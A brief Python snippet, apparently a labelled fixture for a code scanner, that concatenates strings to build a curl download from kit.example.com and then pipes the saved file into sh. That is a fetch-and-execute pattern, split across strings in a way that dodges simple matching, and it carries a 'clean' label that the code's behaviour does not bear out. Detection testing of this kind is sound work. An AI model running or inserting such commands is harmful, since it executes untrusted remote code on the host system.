import os

host = "kit.example.com"
# clean: download-line-built
os.system("curl -s https://" + host + "/a" + " -o a.txt")
# clean: download-line-built
os.system("cat a.txt" + " | " + "sh")
